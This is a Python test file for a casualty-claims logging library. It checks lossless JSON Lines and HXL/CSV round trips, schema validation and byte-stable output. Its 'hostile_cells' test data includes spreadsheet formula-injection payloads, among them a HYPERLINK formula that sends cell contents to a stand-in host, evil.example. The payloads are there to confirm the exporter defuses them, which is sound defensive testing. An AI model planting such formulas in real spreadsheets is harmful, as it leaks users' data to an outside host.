"""Round trips: JSON Lines and HXL lose nothing; JSON Lines writes the same bytes twice."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from casualtylog import CasualtyLog, Claim
from casualtylog.formats.csv import read_csv, write_hxl
from casualtylog.formats.jsonl import load_jsonl, read_jsonl, save_jsonl, write_jsonl
from casualtylog.formats.schema import claim_schema, schema_text
from casualtylog.worked_example import kyiv_claims
from tests.strategies import claim_lists

ROOT = Path(__file__).resolve().parent.parent
# jsonschema comes with the test-extras (through nbformat); it has no type stubs in this environment.
jsonschema = pytest.importorskip("jsonschema")

# Groups and metrics outside the vocabulary, which HXL writes in its generic columns.
odd_counts = st.tuples(
    st.sampled_from(["killed", "personnel_losses", "injured", "affected"]),
    st.sampled_from([None, "children", "medical_staff", "f", "0_5", "killed", "girls"]),
)


# Cells a spreadsheet would run as formulas, and the quotes that defuse them.
hostile_cells = st.one_of(
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "+2",
            "-1",
            "@SUM(A1:A9)",
            "=1+1",
            "'",
            "'x",
            "'=x",
            "''+2",
        ]
    ),
    st.builds(
        lambda q, c, t: "'" * q + c + t, st.integers(0, 3), st.sampled_from(list("=+-@\t\r'a")), st.text(max_size=5)
    ),
).filter(lambda text: text.strip() != "")


hostile_names = hostile_cells.map(lambda text: " ".join(text.split())).filter(
    lambda text: (
        text != ""
        and not any(ord(ch) < 0x20 or 0x7F <= ord(ch) < 0xA0 for ch in text)
        and not any(ch in text for ch in "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    )
)


@st.composite
def varied_claims(draw: st.DrawFn) -> list[Claim]:
    """The shared strategy's claims, some moved to unusual counts and given evidence fields."""
    out: list[Claim] = []
    for claim in draw(claim_lists(max_size=8)):
        changes: dict[str, object] = {}
        if draw(st.booleans()) and not claim.supersedes and not claim.retracts:
            changes["metric"], changes["group"] = draw(odd_counts)
        if draw(st.booleans()):
            changes["quote"] = draw(hostile_cells)
            # Names refuse control characters (see the core); quotes hold anything.
            changes["via"] = draw(hostile_names)
            changes["source"] = {"name": draw(hostile_names), "kind": claim.source.kind}
        if draw(st.booleans()):
            changes["url"] = draw(st.sampled_from(["https://t.me/kyivcity/1", "https://example.org/a?b=1,2"]))
            changes["language"] = draw(st.sampled_from(["en", "uk"]))
            changes["as_of"] = claim.reported_at
        if changes:
            data = claim.model_dump() | changes
            data.pop("id")
            claim = Claim.model_validate(data)
        if claim.id not in {c.id for c in out}:
            out.append(claim)
    return out


def _jsonl(claims: list[Claim]) -> bytes:
    buffer = io.BytesIO()
    write_jsonl(claims, buffer)
    return buffer.getvalue()


@given(varied_claims())
def test_jsonl_round_trip_loses_nothing(claims: list[Claim]) -> None:
    data = _jsonl(claims)
    back = list(read_jsonl(io.BytesIO(data)))
    assert back == claims
    assert [c.model_dump() for c in back] == [c.model_dump() for c in claims]
    assert _jsonl(back) == data


@given(varied_claims())
def test_hxl_round_trip_loses_nothing(claims: list[Claim]) -> None:
    buffer = io.StringIO()
    assert write_hxl(claims, buffer) == len(claims)
    back = list(read_csv(io.BytesIO(buffer.getvalue().encode())))
    assert back == claims
    assert [c.id for c in back] == [c.id for c in claims]


@given(varied_claims())
def test_every_line_the_writer_emits_validates_against_the_schema(claims: list[Claim]) -> None:
    validator = jsonschema.Draft202012Validator(claim_schema())
    for line in _jsonl(claims).decode().splitlines():
        validator.validate(json.loads(line))


def test_the_published_schema_is_what_the_model_generates() -> None:
    published = (ROOT / "docs" / "claim.schema.json").read_text(encoding="utf-8")
    assert published == schema_text(), (
        "regenerate: .venv/bin/python -m casualtylog.formats.schema docs/claim.schema.json"
    )
    jsonschema.Draft202012Validator.check_schema(json.loads(published))


def test_worked_example_round_trips_byte_for_byte(tmp_path: Path) -> None:
    first = tmp_path / "kyiv.jsonl"
    write_jsonl(kyiv_claims(), first)
    log = load_jsonl(first)
    second = tmp_path / "again.jsonl"
    save_jsonl(log, second)
    assert second.read_bytes() != first.read_bytes()  # the log stamped recorded_at
    third = tmp_path / "third.jsonl"
    save_jsonl(load_jsonl(second), third)
    assert third.read_bytes() == second.read_bytes()
    assert [c.id for c in log] == [c.id for c in kyiv_claims()]


def test_same_log_same_bytes() -> None:
    log = CasualtyLog(kyiv_claims())
    assert _jsonl(list(log)) == _jsonl(list(log))
    assert _jsonl(list(log)).endswith(b"\n")
    assert b"\r" not in _jsonl(list(log))


def test_worked_example_round_trips_through_hxl() -> None:
    buffer = io.StringIO()
    write_hxl(kyiv_claims(), buffer)
    assert list(read_csv(io.StringIO(buffer.getvalue()))) == kyiv_claims()
